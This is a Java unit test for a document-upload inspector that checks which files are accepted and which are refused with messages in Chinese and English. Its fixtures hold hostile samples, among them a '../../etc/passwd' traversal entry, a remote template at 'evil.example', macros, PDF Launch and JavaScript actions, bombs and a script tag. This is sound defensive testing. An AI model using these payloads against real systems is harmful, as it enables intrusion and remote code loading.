package org.anlan.files;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.json.JsonMapper;

/// What is taken, and what is refused in which words; on real files.
class InspectionTest {

  private static final byte[] OLE2 = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 1, 2, 3, 4};

  @TempDir Path folder;

  private Finding look(byte[] content, boolean staff) throws IOException {
    var file = Files.write(folder.resolve("paper"), content);
    var rules = new PaperRules(Path.of("..", "city").toString(), JsonMapper.builder().build());
    return new Inspection(rules, new Clamd("", 0, Duration.ofSeconds(1))).look(file, staff);
  }

  private void refused(byte[] content, String slug, String... words) throws IOException {
    assertThat(look(content, true))
        .isInstanceOfSatisfying(
            Finding.Flawed.class,
            flawed -> {
              assertThat(flawed.slug()).isEqualTo(slug);
              for (var word : words) assertThat(flawed.words().zh()).contains(word);
              assertThat(flawed.words().en()).isNotBlank();
            });
  }

  @Test
  void papers_are_told_by_their_content() throws IOException {
    assertThat(look(SamplePapers.pdf(), false)).isEqualTo(new Finding.Clean(PaperKind.PDF));
    assertThat(look(SamplePapers.ofd(), false)).isEqualTo(new Finding.Clean(PaperKind.OFD));
    assertThat(look(SamplePapers.docx(), true)).isEqualTo(new Finding.Clean(PaperKind.DOCX));
    assertThat(look(SamplePictures.jpeg(20, 20), false))
        .isEqualTo(new Finding.Clean(PaperKind.JPEG));
    assertThat(look(bytes("\0\0\0\u0018ftypisom0000"), true))
        .isEqualTo(new Finding.Clean(PaperKind.MP4));
    assertThat(look(bytes("RIFF0000WAVEfmt "), true)).isEqualTo(new Finding.Clean(PaperKind.WAV));
  }

  @Test
  void what_only_staff_may_hand_in_is_refused_from_others_with_what_they_may() throws IOException {
    assertThat(look(SamplePapers.docx(), false))
        .isInstanceOfSatisfying(
            Finding.Flawed.class,
            flawed ->
                assertThat(flawed.words().zh())
                    .contains("Word", "pdf、ofd")
                    .doesNotContain("docx、"));
  }

  @Test
  void macros_are_refused_by_the_name_of_the_part_that_holds_them() throws IOException {
    refused(SamplePapers.docxWith("word/vbaProject.bin", OLE2), "macros", "word/vbaProject.bin");
    refused(
        SamplePapers.docxWith(
            "word/x.xml",
            SamplePapers.text(
                "<x ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>")),
        "macros");
    refused(OLE2, "not-taken", "旧版 Office", "宏");
  }

  @Test
  void what_runs_or_hides_inside_a_document_is_refused() throws IOException {
    refused(
        SamplePapers.docxWith("word/embeddings/oleObject1.bin", OLE2),
        "embedded-file",
        "oleObject1.bin");
    refused(
        SamplePapers.docxWith("word/media/image1.png", bytes("MZ\u0090 program")),
        "active-content",
        "image1.png");
    refused(SamplePapers.docxWith("../../etc/passwd", bytes("x")), "path", "../../etc/passwd");
    refused(
        SamplePapers.docxWith(
            "word/_rels/settings.xml.rels",
            SamplePapers.text(
                "<Relationships><Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")),
        "outside-content");
    refused(
        SamplePapers.docxWith(
            "word/x.xml", SamplePapers.text("<!DOCTYPE a [<!ENTITY b \"c\">]><a/>")),
        "doctype");
  }

  @Test
  void a_pdf_that_runs_or_hides_something_is_refused_by_name() throws IOException {
    refused(SamplePapers.pdfWithScript(), "active-content", "JavaScript");
    refused(SamplePapers.pdfThatStartsAProgram(), "active-content", "Launch");
    refused(SamplePapers.pdfWithFile(), "active-content", "内嵌文件");
    refused(SamplePapers.lockedPdf(), "locked", "密码");
  }

  @Test
  void bombs_are_refused_before_they_unfold() throws IOException {
    refused(SamplePapers.docxWith("word/big.xml", new byte[64 << 20]), "unfolds-too-large");
    refused(SamplePapers.pdfBomb(), "unfolds-too-large");
  }

  @Test
  void the_scanners_test_file_is_found_alone_inside_an_archive_and_behind_other_bytes()
      throws IOException {
    refused(SamplePapers.testVirus(), "virus", "EICAR");
    refused(SamplePapers.docxWith("word/a.txt", SamplePapers.testVirus()), "virus");
    var far = new byte[200_000];
    System.arraycopy(SamplePapers.testVirus(), 0, far, 65_520, SamplePapers.testVirus().length);
    refused(far, "virus");
  }

  @Test
  void what_is_damaged_unknown_or_never_taken_says_so_with_a_remedy() throws IOException {
    var whole = SamplePapers.pdf();
    refused(Arrays.copyOf(whole, whole.length / 3), "broken");
    refused(Arrays.copyOf(SamplePapers.docx(), 60), "broken");
    refused(new byte[0], "broken");
    refused(bytes("just words"), "not-taken", "PDF");
    refused(bytes("\0\0\0\u0018ftypheic0000"), "not-taken", "HEIC", "兼容性最佳");
    refused(bytes("MZ and more"), "not-taken", "程序");
    refused(bytes("<!doctype html><script>alert(1)</script>"), "not-taken", "网页");
    refused(SamplePapers.zip(java.util.Map.of("a.txt", bytes("x"))), "not-taken", "解开");
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.ISO_8859_1);
  }
}
